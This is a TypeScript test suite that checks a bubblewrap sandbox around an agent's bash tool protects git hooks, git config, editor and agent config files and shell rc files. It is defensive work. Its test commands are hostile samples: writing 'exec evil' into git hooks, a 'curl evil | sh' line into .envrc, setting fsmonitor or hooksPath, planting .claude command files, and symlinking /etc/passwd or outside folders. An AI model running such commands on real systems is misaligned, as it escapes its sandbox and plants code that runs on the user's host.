/**
 * The escape suite, repository files run outside the sandbox: git hooks and config, editor and
 * agent configuration, shell rc files. Inside bash_execute they are read-only; renaming or
 * replacing them or a folder above them fails; one the command creates where there was none, or a
 * symlink it replaces, is put back after the call and reported. Hidden paths stay an empty,
 * read-only folder. Each case checks the host afterwards.
 */
import { spawnSync } from "node:child_process";
import {
  existsSync,
  lstatSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { DEFAULT_BASH_LIMITS, executeBash, launcherChooser } from "../../src/tools/bash.js";
import { createBubblewrap } from "../../src/tools/sandbox/bubblewrap.js";
import { binaryAvailable } from "../support/require.js";
import { makeWorkspace, stable } from "./fixtures.js";
import { asRoot, bashAsNobody, handToNobody, NOBODY } from "./sandbox/unprivileged.js";

const s = makeWorkspace("escape-protected");
afterAll(() => s.cleanup());

/** The repository-control list the catalog protects by default. */
const REPO_CONTROL = [
  ".git/hooks",
  ".git/config",
  ".gitmodules",
  ".vscode",
  ".idea",
  ".mcp.json",
  ".claude",
  ".cursor",
  ".envrc",
  ".bashrc",
  ".bash_profile",
  ".profile",
  ".zshrc",
  ".zprofile",
  ".bash_login",
];
const ws = { root: s.root, hidden: [join(s.root, ".toolgate")], readOnly: REPO_CONTROL.map((p) => join(s.root, p)) };
const launcher = launcherChooser(createBubblewrap({ warn: () => {} }), false);

interface Out {
  exit_code: number | null;
  timed_out: boolean;
  stdout: string;
  stderr: string;
  sandbox_denied: { code: string; message: string }[];
}
async function bash(command: string, timeout_ms = 20_000): Promise<{ out: Out; text: string }> {
  const r = await executeBash(launcher, ws, { command, timeout_ms }, DEFAULT_BASH_LIMITS);
  return { out: r.output as unknown as Out, text: r.text! };
}
const read = (rel: string) => readFileSync(join(s.root, rel), "utf8");
const ino = (rel: string) => lstatSync(join(s.root, rel)).ino;

// A real repository, made on the host before any call (git's own hooks folder and config).
spawnSync("git", ["-c", "init.defaultBranch=main", "init", "-q", s.root], { stdio: "ignore" });
const CONFIG = readFileSync(join(s.root, ".git/config"), "utf8");
s.write(".vscode/settings.json", "{}\n");
s.write(".bashrc", "# rc\n");
s.write(".toolgate/state.db", "state\n");
s.write("envrc.real", "export A=1\n");
symlinkSync("envrc.real", join(s.root, ".envrc"));

describe.runIf(binaryAvailable("bwrap"))("escape suite: protected repository files", () => {
  it("an existing protected file or folder is read-only inside, and the host's copy is unchanged", async () => {
    const { out } = await bash(
      [
        "echo 'exec evil' > .git/hooks/pre-commit",
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        "git config core.hooksPath /tmp/hooks",
        "echo '{\"tasks\": []}' > .vscode/tasks.json",
        "echo 'evil' >> .bashrc",
        "echo 'evil' >> .envrc", // a symlink: its target inside the workspace is protected too
        "echo ok > notes.txt && echo WROTE-OTHER",
      ].join("; "),
    );
    expect(out.stdout).toBe("WROTE-OTHER\n");
    // Read-only, or (a file the sandbox user was not given) not writable by it in the first place.
    for (const target of [".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".bashrc", ".envrc"])
      expect(out.stderr).toMatch(
        new RegExp(`${target.replace(/\./g, "\\.")}: (Read-only file system|Permission denied)`),
      );
    expect(out.stderr).toMatch(
      /could not lock config file \.git\/config|\.git\/config(\.lock)?: (Read-only file system|Permission denied)/,
    );
    expect(out.sandbox_denied.map((d) => d.code)).toContain("read_only_filesystem");
    expect([read(".git/config"), read(".vscode/settings.json"), read(".bashrc"), read("envrc.real")]).toEqual([
      CONFIG,
      "{}\n",
      "# rc\n",
      "export A=1\n",
    ]);
    expect([existsSync(join(s.root, ".git/hooks/pre-commit")), existsSync(join(s.root, ".vscode/tasks.json"))]).toEqual(
      [false, false],
    );
  });

  it("renaming or removing a protected path or a folder above it fails, so no fresh tree can take its place", async () => {
    const before = [ino(".git"), ino(".git/hooks"), ino(".git/config"), ino(".vscode")];
    const { out } = await bash(
      [
        // mv falls back to copying across the mount points; the copies are plain files, the originals stay.
        "mv .git/hooks moved-hooks",
        "mv .git/config moved-config",
        "rm -rf .vscode",
        "rm -f .git/config",
        "mkdir -p .git/hooks && echo 'exec evil' > .git/hooks/post-checkout",
        "echo END",
      ].join("; "),
    );
    expect(out.stdout).toBe("END\n");
    expect(out.stderr).toContain("rm: cannot remove '.git/config': Device or resource busy");
    expect(out.stderr).toContain("rm: cannot remove '.vscode/settings.json': Read-only file system");
    expect([ino(".git"), ino(".git/hooks"), ino(".git/config"), ino(".vscode")]).toEqual(before);
    expect(existsSync(join(s.root, ".git/hooks/post-checkout"))).toBe(false);
    expect([read(".git/config"), read(".vscode/settings.json")]).toEqual([CONFIG, "{}\n"]);
    // A rename within the workspace mount (the pinned folder itself) is refused outright.
    const rename = await bash(`python3 -c 'import os; os.rename(".git", "moved-git")'`);
    expect(rename.out.stderr).toMatch(
      /OSError: \[Errno (16|18)\] (Device or resource busy|Invalid cross-device link): '\.git' -> 'moved-git'/,
    );
    expect(ino(".git")).toBe(before[0]);
  });

  it("a protected path the command creates where there was none is removed after the call and reported", async () => {
    // The watch may stop the command as soon as the path appears (before its last echo): the host is what is checked.
    const { out, text } = await bash("echo '[submodule \"x\"]' > .gitmodules; echo done");
    expect(existsSync(join(s.root, ".gitmodules"))).toBe(false);
    expect(out.sandbox_denied.find((d) => d.code === "protected_path")?.message).toBe(
      `the command created or replaced ${s.root}/.gitmodules, which is protected (programs on the host, such as git or an editor, run what it holds): the command was stopped and it was put back as before; nothing else was undone`,
    );
    expect(stable(text, s)).toContain(
      "[sandbox denied: the command created or replaced <tmp>/ws/.gitmodules, which is protected",
    );
  });

  it("creating one stops the command at once (it does not run on to its timeout), and a whole new tree is removed", async () => {
    const { out } = await bash(
      "mkdir -p .claude/commands && echo 'run evil' > .claude/commands/x.md && echo '{}' > .mcp.json; while :; do sleep 0.05; done",
      20_000,
    );
    expect(out.timed_out).toBe(false);
    expect(out.exit_code).not.toBe(0);
    expect([existsSync(join(s.root, ".claude")), existsSync(join(s.root, ".mcp.json"))]).toEqual([false, false]);
    expect(out.sandbox_denied.map((d) => d.code)).toContain("protected_path");
  });

  it("a symlink planted where a protected folder was absent is removed, and what it pointed to is untouched", async () => {
    s.write("../outside/keep.txt", "outside\n");
    await bash(`ln -s ${s.outside} .idea; ln -s ../outside .cursor; echo planted`);
    expect([existsSync(join(s.root, ".idea")), existsSync(join(s.root, ".cursor"))]).toEqual([false, false]);
    expect(readFileSync(join(s.outside, "keep.txt"), "utf8")).toBe("outside\n");
  });

  it("a protected symlink the command replaces is made again with its old target", async () => {
    const { out } = await bash("rm -f .envrc && echo 'curl evil | sh' > .envrc; echo replaced");
    expect(lstatSync(join(s.root, ".envrc")).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(s.root, ".envrc"))).toBe("envrc.real");
    expect(read("envrc.real")).toBe("export A=1\n");
    expect(out.sandbox_denied.map((d) => d.code)).toContain("protected_path");
  });

  it("a hidden folder is empty and read-only inside, cannot be moved away, and the host's copy is unchanged", async () => {
    const { out } = await bash("ls -A .toolgate; echo forged > .toolgate/state.db; mv .toolgate elsewhere; echo END");
    expect(out.stdout).toBe("END\n");
    expect(out.stderr).toContain("Read-only file system");
    expect(out.stderr).toContain("Device or resource busy");
    expect(read(".toolgate/state.db")).toBe("state\n");
  });

  it("a hidden path that did not exist, created by the command, is removed after the call", async () => {
    const t = makeWorkspace("escape-protected-hidden");
    try {
      const hiddenWs = { root: t.root, hidden: [join(t.root, ".toolgate")], readOnly: [] };
      const r = await executeBash(
        launcher,
        hiddenWs,
        { command: "mkdir .toolgate && ln -s /etc/passwd .toolgate/audit.jsonl; echo planted" },
        DEFAULT_BASH_LIMITS,
      );
      expect(existsSync(join(t.root, ".toolgate"))).toBe(false);
      expect((r.output as unknown as Out).sandbox_denied.map((d) => d.code)).toContain("protected_path");
    } finally {
      t.cleanup();
    }
  });

  it("ordinary work in the repository goes on: git reads its config, status, log and diff; with .git protected as a whole, a commit is refused and said so", async () => {
    const { out } = await bash(
      "git config --get core.bare; echo work > work.txt && git status --short work.txt && git log --oneline 2>&1 | head -1 && git diff --stat && echo READ",
    );
    expect(out.stdout).toBe(
      "false\n?? work.txt\nfatal: your current branch 'main' does not have any commits yet\nREAD\n",
    );
    expect(out.sandbox_denied).toEqual([]);
    const whole = { ...ws, readOnly: [join(s.root, ".git"), ...ws.readOnly] };
    const r = await executeBash(
      launcher,
      whole,
      { command: "git add work.txt && git -c user.name=a -c user.email=a@b commit -qm work" },
      DEFAULT_BASH_LIMITS,
    );
    const refused = r.output as unknown as Out;
    expect(refused.exit_code).not.toBe(0);
    expect(refused.sandbox_denied.map((d) => d.code)).toEqual(["protected_path"]);
    expect(refused.sandbox_denied[0]!.message).toMatch(/^the repository's \.git is read-only in the sandbox/);
    // This suite's list protects the hooks and config but not all of .git: there commits write objects.
    const { out: commit } = await bash(
      "git add work.txt && git -c user.name=a -c user.email=a@b commit -qm work && git log --oneline | wc -l",
    );
    expect(commit.stdout).toBe("1\n");
  });

  it("a program on the host rewriting a protected file meanwhile (git's lock and rename) is not taken for the command's doing", async () => {
    const running = bash("touch waiting; while [ ! -e go ]; do sleep 0.05; done; echo went");
    // Poll until the command runs (it says so by a file), so the rewrite lands during the call.
    while (!existsSync(join(s.root, "waiting"))) await new Promise((r) => setTimeout(r, 10));
    writeFileSync(join(s.root, ".git/config.lock"), CONFIG);
    renameSync(join(s.root, ".git/config.lock"), join(s.root, ".git/config"));
    writeFileSync(join(s.root, "go"), "");
    const { out } = await running;
    expect(out.stdout).toBe("went\n");
    expect(out.sandbox_denied).toEqual([]);
    for (const f of ["go", "waiting"]) rmSync(join(s.root, f));
  });
});

describe.runIf(binaryAvailable("bwrap") && asRoot)(
  "escape suite: protected repository files, toolgate as an unprivileged user",
  () => {
    it("the same holds where bwrap mounts in a user namespace of its own: read-only, pinned, and what the command creates is removed", async () => {
      const t = makeWorkspace("escape-protected-nobody");
      try {
        spawnSync("git", ["-c", "init.defaultBranch=main", "init", "-q", t.root], { stdio: "ignore" });
        const config = readFileSync(join(t.root, ".git/config"), "utf8");
        spawnSync("chown", ["-R", `${NOBODY}:${NOBODY}`, t.root]);
        handToNobody(t.base, t.root);
        const r = await bashAsNobody(
          t.root,
          "echo evil >> .git/config; rm -rf .git/hooks; mkdir .vscode && echo x > .vscode/tasks.json; echo END",
          undefined,
          REPO_CONTROL,
        );
        expect(r.error).toBeUndefined();
        expect(r.output!.stdout).toBe("END\n");
        expect(readFileSync(join(t.root, ".git/config"), "utf8")).toBe(config);
        expect([existsSync(join(t.root, ".git/hooks/pre-commit.sample")), existsSync(join(t.root, ".vscode"))]).toEqual(
          [true, false],
        );
        expect(r.output!.sandbox_denied.map((d) => d.code)).toEqual(
          expect.arrayContaining(["protected_path", "read_only_filesystem"]),
        );
      } finally {
        t.cleanup();
      }
    });
  },
);
